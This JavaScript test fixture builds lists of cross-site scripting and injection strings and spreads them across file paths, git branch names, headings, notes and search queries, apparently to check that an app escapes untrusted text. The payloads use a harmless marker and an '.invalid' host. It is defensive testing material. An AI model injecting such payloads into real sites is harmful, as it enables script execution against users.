// Texts made to break out of the page: 300 places in which a tree, a repository, a note or a query could hold one.

const RUN = "window.__ran=1";
const OUT = "http://outside.invalid/x";

const MARKUP = [
    `<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `"><svg onload=${RUN}>`, `'><svg/onload='${RUN}'>`, `</code><script>${RUN}</script>`,
    `</textarea><img src=x onerror=${RUN}>`, `</title><script>${RUN}</script>`, `<iframe srcdoc="<script>parent.__ran=1</script>">`,
    `<iframe src=javascript:parent.__ran=1>`, `<a href="javascript:${RUN}">a</a>`, `<a href=${OUT} target=_blank>a</a>`, `<style>@import '${OUT}'</style>`,
    `<link rel=stylesheet href=${OUT}>`, `<base href=${OUT}>`, `<meta http-equiv=refresh content="0;url=${OUT}">`, `<object data=${OUT}></object>`,
    `<embed src=${OUT}>`, `<img src=${OUT}>`, `<img srcset="${OUT} 1x">`, `<video poster=${OUT}><source onerror=${RUN}></video>`, `<audio src=${OUT} autoplay>`,
    `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<body onload=${RUN}>`, `<math><mi xlink:href="javascript:${RUN}">a`,
    `<svg><script href=${OUT}></script></svg>`, `<svg><use href=${OUT}#a></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<template><script>${RUN}</script></template>`, `<form action=${OUT}><button autofocus>a</button></form>`, `--><script>${RUN}</script><!--`,
    `]]><script>${RUN}</script>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<div style="background:url(${OUT})">`,
];
const OTHER = [
    `javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `';${RUN};'`,
    `";${RUN};//`, `\`;${RUN};\``, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `%3Cscript%3E${RUN}%3C/script%3E`,
    `\\u003cscript\\u003e${RUN}`, "__proto__", "constructor", "toString", `event: failed\ndata: {}`, `\u202e>tpircs<`, `\u200b<script\u200b>${RUN}`,
    `//outside.invalid/x`, `https://outside.invalid`, `#"><img src=x onerror=${RUN}>`, `?v=file&path=<script>${RUN}</script>`, `\ud83d\ude00<img src=x onerror=${RUN}>`,
];
const ALL = [...MARKUP, ...OTHER];

function cycle(list, n, change) {
    return Array.from({ length: n }, (_, i) => change(list[i % list.length], i));
}

/** Names that a file system takes; a slash makes a folder, so the path holds the whole text. */
function fileName(text, i) {
    const parts = text.replace(/[\0\n]/g, " ").split("/").map((part) => part.trim().slice(0, 120)).filter((part) => part !== "" && part !== "." && part !== "..");
    return `names/${i}${parts.length > 0 ? parts.join("/") : "x"}.${["py", "md", "txt", "js"][i % 4]}`;
}

/** Names that git takes for branches. */
function branchName(text, i) {
    const plain = text.replace(/[\s~^:?*[\\\u0000-\u001f\u007f]+/g, "-").replace(/\.\.|@\{|\/\/|\.lock/g, "-").replace(/\/(?=\/|$|\.)/g, "-").replace(/[./]+$/g, "");
    return `b${i}-${plain}`;
}

export const FILES = cycle(ALL, 100, (text, i) => ({ path: fileName(text, i), text }));
export const HEADINGS = cycle(ALL, 50, (text, i) => `${text.replace(/\n/g, " ")} ${i}`);
export const BRANCHES = cycle(MARKUP, 30, branchName);
export const NOTES = cycle(ALL, 57, (text, i) => `${text} ${i}`);
export const QUERIES = [...ALL, `/${MARKUP[0]}/`, `"${MARKUP[1]}"`, `@<img`, `lang:<script>`, `path:"${MARKUP[1]}"`, `view:<img/src=x/onerror=${RUN}>`];
